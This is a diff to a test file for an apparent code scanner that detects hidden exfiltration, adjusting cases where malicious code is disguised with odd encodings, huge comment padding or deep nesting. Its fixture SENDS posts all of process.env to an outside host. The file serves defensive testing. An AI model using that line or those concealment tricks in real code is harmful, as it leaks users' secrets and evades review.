@@ -3,9 +3,8 @@ import { riskOf } from '../../risk.ts';
 import { findingGroup } from '../../../format/finding/finding.ts';
 import { unreadFiles } from '../../capabilities.ts';
 import { scan } from '../../scan.ts';
-import { testBuild } from '../../open-build.ts';
+import { testBuild } from '../../test-build.ts';
 import { allRules } from '../all.ts';
-import { source } from './source.ts';
 
 const SENDS =
   "fetch('https://files.host-of-a.io', { method: 'POST', body: JSON.stringify(process.env) })";
@@ -32,9 +31,9 @@ describe('code that could be hidden', () => {
     ['a byte that is not UTF-8', withByte(`${SENDS};\n${RUNS}`, 0xff)],
     ['a NUL', withByte(`${SENDS};\n${RUNS}`, 0)],
     ['UTF-16', Buffer.from(`\uFEFF${SENDS};\n${RUNS}`, 'utf16le')],
-    ['5 MB of comments', `${SENDS};\n${RUNS};\n/*${'x'.repeat(5_000_000)}*/`],
-    ['320 brackets', `x = ${'['.repeat(320)}${SENDS}, ${RUNS}${']'.repeat(320)}`],
-    ['320 blocks', `${'{'.repeat(320)}${SENDS};\n${RUNS}${'}'.repeat(320)}`],
+    ['900 kB of comments', `${SENDS};\n${RUNS};\n/*${'x'.repeat(900_000)}*/`],
+    ['200 brackets', `x = ${'['.repeat(200)}${SENDS}, ${RUNS}${']'.repeat(200)}`],
+    ['200 blocks', `${'{'.repeat(200)}${SENDS};\n${RUNS}${'}'.repeat(200)}`],
     ['100,000 characters of comments', `/*${'x'.repeat(100_000)}*/${SENDS};\n${RUNS}`],
   ])('is found behind %s', (_, text) => {
     const { risk, codes } = found({ 'a.js': text });
@@ -100,6 +99,8 @@ describe('code that the checks must not fail at', () => {
 describe('source-unread', () => {
   it.each([
     ['in an encoding that is not known', 'a.py', `# coding: rot13\nx = 1\n`],
+    ['of more than 1 MB without a source or sink', 'a.js', 'f(1);\n'.repeat(200_000)],
+    ['of more than 1 MB', 'a.py', 'f(1)\n'.repeat(200_001)],
     ['with brackets that do not end', 'a.js', `x = ${'['.repeat(1_000)}`],
     ['nested far too deeply', 'a.js', `x = ${'f('.repeat(3_000)}${')'.repeat(3_000)}`],
     ['with a chain of 2,000 calls', 'a.js', `fetch('/a')${'.then(b)'.repeat(2_000)}`],
@@ -108,14 +109,6 @@ describe('source-unread', () => {
     const { risk, codes, unread } = found({ [path]: text });
     expect([risk, unread]).toEqual(['caution', [path]]);
     expect(codes).toContain('source-unread');
-  });
-
-  it('is info for JavaScript of which only parts are read', () => {
-    const build = testBuild({ 'a.js': 'f(1);\n'.repeat(200_000) });
-    const unread = scan(build, [source]).map(({ level, args }) => [level, args['reason']]);
-    expect(unread).toEqual([
-      ['info', 'it is so large that only parts which may hold a source or sink are read'],
-    ]);
   });
 
   it('is info for tests that nothing starts', () => {
